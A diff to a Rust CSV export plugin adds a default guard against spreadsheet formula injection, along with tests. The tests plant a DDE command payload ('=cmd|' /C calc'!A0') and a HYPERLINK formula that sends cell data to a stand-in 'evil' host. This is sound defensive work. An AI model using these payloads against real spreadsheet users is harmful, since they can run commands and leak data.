@@ -17,10 +17,21 @@
 //!   the provenance goes into each row's `tags` column instead, unless
 //!   `provenance=false`.
 //! - `provenance=true|false`.
+//! - `formulas=guard` (the default): every text cell that begins with `=`,
+//!   `+`, `-`, `@`, a tab or a carriage return gets a `'` before it, as
+//!   OWASP recommends against "CSV injection": spreadsheets (Excel,
+//!   LibreOffice, Google Sheets) would otherwise run a poisoned summary such
+//!   as `=HYPERLINK(…)` as a formula. So do text cells that are `'`s
+//!   followed by such a character, so that the ACLED importer can undo the
+//!   guard exactly. Numbers (figures, coordinates, sequence numbers) are
+//!   never guarded. `formulas=keep` writes every cell as it is, for
+//!   programs that are not spreadsheets. The provenance (comment or `tags`)
+//!   says which was used.
 //!
 //! Rows end with `\n`; fields are quoted only when needed (RFC 4180
 //! quoting, by the `csv` crate).
 
+use chronicle_plugin_sdk::safe::guard_formula;
 use chronicle_plugin_sdk::view::unix_seconds;
 use chronicle_plugin_sdk::{
     DatePrecision, Exporter, Figure, Incident, Options, Range, ViewDocument,
@@ -40,17 +51,57 @@ impl Exporter for Csv {
     const TEXT: bool = true;
 
     fn export(doc: &ViewDocument, options: &Options) -> Result<Vec<u8>, String> {
-        options.check_known(&["layout", "provenance"])?;
+        options.check_known(&["layout", "provenance", "formulas"])?;
         let layout = options.get_choice("layout", &["default", "acled"], "default")?;
         let provenance = options.get_bool("provenance", true)?;
+        let formulas = Formulas {
+            guard: options.get_choice("formulas", &["guard", "keep"], "guard")? == "guard",
+        };
         match layout {
-            "acled" => acled(doc, provenance),
-            _ => default_layout(doc, provenance),
+            "acled" => acled(doc, provenance, formulas),
+            _ => default_layout(doc, provenance, formulas),
         }
     }
 }
 
 chronicle_plugin_sdk::export_plugin!(Csv);
+
+/// What to do with text cells a spreadsheet would run as formulas.
+#[derive(Debug, Clone, Copy)]
+struct Formulas {
+    /// Put `'` before them (`formulas=guard`), or keep them (`formulas=keep`).
+    guard: bool,
+}
+
+impl Formulas {
+    /// A text cell, guarded when needed.
+    fn text(self, cell: String) -> String {
+        if self.guard {
+            guard_formula(&cell).into_owned()
+        } else {
+            cell
+        }
+    }
+
+    /// A number cell: left as it is when it is a number (`-33.9` is one),
+    /// guarded as text otherwise (it can only be damaged data).
+    fn number(self, cell: String) -> String {
+        if cell.is_empty() || cell.parse::<f64>().is_ok() {
+            cell
+        } else {
+            self.text(cell)
+        }
+    }
+
+    /// The option value, for the provenance.
+    fn describe(self) -> &'static str {
+        if self.guard {
+            "formulas=guard"
+        } else {
+            "formulas=keep"
+        }
+    }
+}
 
 fn num(n: Option<u64>) -> String {
     n.map(|n| n.to_string()).unwrap_or_default()
@@ -89,13 +140,14 @@ fn source_names(doc: &ViewDocument) -> Vec<String> {
     names.into_iter().map(str::to_owned).collect()
 }
 
-fn provenance_comments(doc: &ViewDocument) -> String {
+fn provenance_comments(doc: &ViewDocument, formulas: Formulas) -> String {
     let p = &doc.provenance;
     let mut lines = vec![
         format!(
-            "chronicle export: {} plugin {}, layout default",
+            "chronicle export: {} plugin {}, layout default, {}",
             Csv::NAME,
-            Csv::VERSION
+            Csv::VERSION,
+            formulas.describe()
         ),
         format!("log_seq: {}", p.log_seq),
         format!("log_hash: {}", p.log_hash.as_deref().unwrap_or("none")),
@@ -122,7 +174,12 @@ fn figure_text(f: &Option<Figure>) -> String {
     f.as_ref().map(|f| f.text.clone()).unwrap_or_default()
 }
 
-fn default_layout(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, String> {
+fn default_layout(
+    doc: &ViewDocument,
+    provenance: bool,
+    formulas: Formulas,
+) -> Result<Vec<u8>, String> {
+    let t = |cell: String| formulas.text(cell);
     let sources = source_names(doc);
     let mut header: Vec<String> = [
         "incident",
@@ -162,8 +219,8 @@ fn default_layout(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, Strin
     .map(|s| (*s).to_owned())
     .collect();
     for s in &sources {
-        header.push(format!("{s}_killed"));
-        header.push(format!("{s}_wounded"));
+        header.push(t(format!("{s}_killed")));
+        header.push(t(format!("{s}_wounded")));
     }
 
     let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
@@ -174,50 +231,54 @@ fn default_layout(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, Strin
             None => (String::new(), String::new(), ""),
         };
         let mut row: Vec<String> = vec![
-            i.incident.clone(),
-            i.date.clone(),
-            i.date_start.clone(),
-            i.date_end.clone(),
-            i.date_precision.as_str().to_owned(),
-            opt(&i.country),
-            i.province.clone(),
-            opt(&i.province_code),
-            opt(&i.district),
-            opt(&i.locality),
-            lat,
-            lon,
-            coordinate_source.to_owned(),
-            i.category.clone(),
-            opt(&i.target),
-            opt(&i.perpetrator),
+            t(i.incident.clone()),
+            t(i.date.clone()),
+            t(i.date_start.clone()),
+            t(i.date_end.clone()),
+            t(i.date_precision.as_str().to_owned()),
+            t(opt(&i.country)),
+            t(i.province.clone()),
+            t(opt(&i.province_code)),
+            t(opt(&i.district)),
+            t(opt(&i.locality)),
+            formulas.number(lat),
+            formulas.number(lon),
+            t(coordinate_source.to_owned()),
+            t(i.category.clone()),
+            t(opt(&i.target)),
+            t(opt(&i.perpetrator)),
         ];
         row.extend(range_cells(&i.killed));
         row.extend(range_cells(&i.wounded));
         row.extend(range_cells(&i.attackers_killed));
         row.push(i.disputed.to_string());
-        row.push(
-            i.sources
-                .iter()
-                .map(|s| s.source.as_str())
-                .collect::<Vec<_>>()
-                .join("; "),
-        );
-        row.push(opt(&i.summary));
+        row.push(t(i
+            .sources
+            .iter()
+            .map(|s| s.source.as_str())
+            .collect::<Vec<_>>()
+            .join("; ")));
+        row.push(t(opt(&i.summary)));
         row.push(i.last_seq.to_string());
         for name in &sources {
             let s = i.sources.iter().find(|s| &s.source == name);
-            row.push(s.map(|s| figure_text(&s.killed)).unwrap_or_default());
-            row.push(s.map(|s| figure_text(&s.wounded)).unwrap_or_default());
+            row.push(t(s.map(|s| figure_text(&s.killed)).unwrap_or_default()));
+            row.push(t(s.map(|s| figure_text(&s.wounded)).unwrap_or_default()));
         }
         w.write_record(&row).map_err(|e| e.to_string())?;
     }
     let head = if provenance {
-        provenance_comments(doc).into_bytes()
+        provenance_comments(doc, formulas).into_bytes()
     } else {
         Vec::new()
     };
     finish(w, head)
 }
+
+/// The ACLED columns holding numbers, by index: `year`, `time_precision`,
+/// `latitude`, `longitude`, `geo_precision`, `fatalities`, `timestamp`.
+/// Every other column holds text.
+const ACLED_NUMBER_COLUMNS: [usize; 7] = [2, 3, 22, 23, 24, 28, 30];
 
 /// The 31 columns of an ACLED export, in ACLED's order.
 pub const ACLED_COLUMNS: [&str; 31] = [
@@ -356,24 +417,25 @@ fn acled_notes(i: &Incident) -> String {
     notes
 }
 
-fn acled_tags(doc: &ViewDocument) -> String {
+fn acled_tags(doc: &ViewDocument, formulas: Formulas) -> String {
     let p = &doc.provenance;
     format!(
-        "chronicle log_seq={}; log_hash={}; point={}; policy={}; plugin={} {}",
+        "chronicle log_seq={}; log_hash={}; point={}; policy={}; plugin={} {}; {}",
         p.log_seq,
         p.log_hash.as_deref().unwrap_or("none"),
         p.point.describe(),
         p.policy.best,
         Csv::NAME,
-        Csv::VERSION
+        Csv::VERSION,
+        formulas.describe()
     )
 }
 
-fn acled(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, String> {
+fn acled(doc: &ViewDocument, provenance: bool, formulas: Formulas) -> Result<Vec<u8>, String> {
     let mut w = csv::WriterBuilder::new().from_writer(Vec::new());
     w.write_record(ACLED_COLUMNS).map_err(|e| e.to_string())?;
     let tags = if provenance {
-        acled_tags(doc)
+        acled_tags(doc, formulas)
     } else {
         String::new()
     };
@@ -388,7 +450,7 @@ fn acled(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, String> {
             .clone()
             .or_else(|| i.district.clone())
             .unwrap_or_else(|| i.province.clone());
-        let row: [String; 31] = [
+        let mut row: [String; 31] = [
             i.incident.clone(),
             i.date_start.clone(),
             i.date_start.get(0..4).unwrap_or_default().to_owned(),
@@ -429,6 +491,14 @@ fn acled(doc: &ViewDocument, provenance: bool) -> Result<Vec<u8>, String> {
                 .map(|t| t.to_string())
                 .unwrap_or_default(),
         ];
+        for (column, cell) in row.iter_mut().enumerate() {
+            let taken = std::mem::take(cell);
+            *cell = if ACLED_NUMBER_COLUMNS.contains(&column) {
+                formulas.number(taken)
+            } else {
+                formulas.text(taken)
+            };
+        }
         w.write_record(&row).map_err(|e| e.to_string())?;
     }
     finish(w, Vec::new())
@@ -571,6 +641,188 @@ mod tests {
         assert_eq!(err, "option layout=ucdp: expected one of default, acled");
         let err = export_sample::<Csv>(&[("provenance", "maybe")]).unwrap_err();
         assert!(err.starts_with("option provenance=maybe"), "{err}");
+    }
+
+    /// The sample with every text field of Puli Alam, and the names and
+    /// figures of its sources (AFP, Ministry of Defense), beginning with
+    /// `trigger`.
+    fn poisoned(trigger: char) -> ViewDocument {
+        let mut doc = sample_document();
+        let p = |s: &str| format!("{trigger}{s}");
+        let i = doc
+            .incidents
+            .iter_mut()
+            .find(|i| i.incident == "2020-07-30-puli-alam")
+            .unwrap();
+        i.incident = p("id");
+        i.date = p("date");
+        i.date_start = p("date_start");
+        i.date_end = p("date_end");
+        i.country = Some(p("country"));
+        i.province = p("province");
+        i.province_code = Some(p("code"));
+        i.district = Some(p("district"));
+        i.locality = Some(p("locality"));
+        i.category = p("category");
+        i.target = Some(p("target"));
+        i.perpetrator = Some(p("cmd|' /C calc'!A0"));
+        i.summary = Some(p(r#"HYPERLINK("http://evil/?x="&A1,"click")"#));
+        i.coordinates = Some(chronicle_plugin_sdk::Coordinates {
+            lat: -33.9,
+            lon: -70.5,
+            precision: None,
+        });
+        for s in &mut i.sources {
+            s.source = p(&s.source);
+            for f in [&mut s.killed, &mut s.wounded].into_iter().flatten() {
+                f.text = p(&f.text);
+            }
+        }
+        doc
+    }
+
+    const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+    /// The columns of `rows` (header first) whose cell in the row of the
+    /// poisoned incident is guarded; asserts no cell anywhere begins with
+    /// a trigger, but for numbers.
+    fn guarded_columns(rows: &[csv::StringRecord], trigger: char) -> Vec<String> {
+        for r in rows {
+            for cell in r {
+                let number = cell.parse::<f64>().is_ok();
+                assert!(number || !cell.starts_with(TRIGGERS), "unguarded {cell:?}");
+            }
+        }
+        let guard = format!("'{trigger}");
+        let row = rows
+            .iter()
+            .find(|r| r[0] == format!("'{trigger}id"))
+            .unwrap();
+        rows[0]
+            .iter()
+            .zip(row)
+            .filter(|(_, cell)| cell.starts_with(&guard))
+            .map(|(h, _)| h.to_owned())
+            .collect()
+    }
+
+    #[test]
+    fn every_text_column_is_guarded_against_formulas() {
+        for t in TRIGGERS {
+            let doc = poisoned(t);
+            let out = text(export_document::<Csv>(&doc, &[]).unwrap());
+            let rows = parse(&out);
+            let mut expected: Vec<String> = [
+                "incident",
+                "date",
+                "date_start",
+                "date_end",
+                "country",
+                "province",
+                "province_code",
+                "district",
+                "locality",
+                "category",
+                "target",
+                "perpetrator",
+                "sources",
+                "summary",
+            ]
+            .iter()
+            .map(|s| (*s).to_owned())
+            .collect();
+            for source in ["AFP", "Ministry of Defense"] {
+                for what in ["killed", "wounded"] {
+                    expected.push(format!("'{t}{source}_{what}"));
+                }
+            }
+            assert_eq!(guarded_columns(&rows, t), expected, "{t:?}");
+            // The source names in the header are guarded too.
+            assert!(rows[0].iter().any(|h| h == format!("'{t}AFP_killed")));
+            // Numbers stay numbers, a negative one included.
+            let header = &rows[0];
+            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+            let row = rows.iter().find(|r| r[0] == format!("'{t}id")).unwrap();
+            assert_eq!(&row[col("latitude")], "-33.9");
+            assert_eq!(&row[col("longitude")], "-70.5");
+            assert_eq!(&row[col("killed_best")], "12");
+            assert!(out.starts_with(
+                "# chronicle export: csv plugin 0.1.0, layout default, formulas=guard\n"
+            ));
+        }
+    }
+
+    #[test]
+    fn every_text_column_of_the_acled_layout_is_guarded_against_formulas() {
+        for t in TRIGGERS {
+            let doc = poisoned(t);
+            let rows = parse(&text(
+                export_document::<Csv>(&doc, &[("layout", "acled")]).unwrap(),
+            ));
+            // The notes are the summary trimmed: a leading tab or carriage
+            // return goes.
+            let notes = if t.is_whitespace() {
+                None
+            } else {
+                Some("notes")
+            };
+            assert_eq!(
+                guarded_columns(&rows, t),
+                [
+                    "event_id_cnty",
+                    "event_date",
+                    "year",
+                    "actor1",
+                    "actor2",
+                    "country",
+                    "admin1",
+                    "admin2",
+                    "location",
+                    "source",
+                ]
+                .into_iter()
+                .chain(notes)
+                .collect::<Vec<_>>(),
+                "{t:?}"
+            );
+            let row = rows.iter().find(|r| r[0] == format!("'{t}id")).unwrap();
+            assert_eq!((&row[22], &row[23]), ("-33.9", "-70.5"));
+            assert!(row[29].ends_with("; formulas=guard"), "{}", &row[29]);
+        }
+    }
+
+    #[test]
+    fn formulas_keep_writes_cells_as_they_are() {
+        let doc = poisoned('=');
+        let out = text(export_document::<Csv>(&doc, &[("formulas", "keep")]).unwrap());
+        assert!(out
+            .starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=keep\n"));
+        let rows = parse(&out);
+        let row = rows.iter().find(|r| &r[0] == "=id").unwrap();
+        assert!(row
+            .iter()
+            .any(|c| c == r#"=HYPERLINK("http://evil/?x="&A1,"click")"#));
+        let acled = text(
+            export_document::<Csv>(&doc, &[("layout", "acled"), ("formulas", "keep")]).unwrap(),
+        );
+        let rows = parse(&acled);
+        let row = rows.iter().find(|r| &r[0] == "=id").unwrap();
+        assert_eq!(&row[7], "=cmd|' /C calc'!A0");
+        assert!(row[29].ends_with("; formulas=keep"));
+        let err = export_sample::<Csv>(&[("formulas", "strip")]).unwrap_err();
+        assert_eq!(err, "option formulas=strip: expected one of guard, keep");
+    }
+
+    #[test]
+    fn a_cell_of_apostrophes_before_a_trigger_is_guarded_too() {
+        let mut doc = sample_document();
+        doc.incidents[0].summary = Some("'=already quoted".into());
+        doc.incidents[1].summary = Some("'plain".into());
+        let rows = parse(&text(
+            export_document::<Csv>(&doc, &[("provenance", "false")]).unwrap(),
+        ));
+        assert_eq!(&rows[1][30], "''=already quoted");
+        assert_eq!(&rows[2][30], "'plain");
     }
 
     #[test]
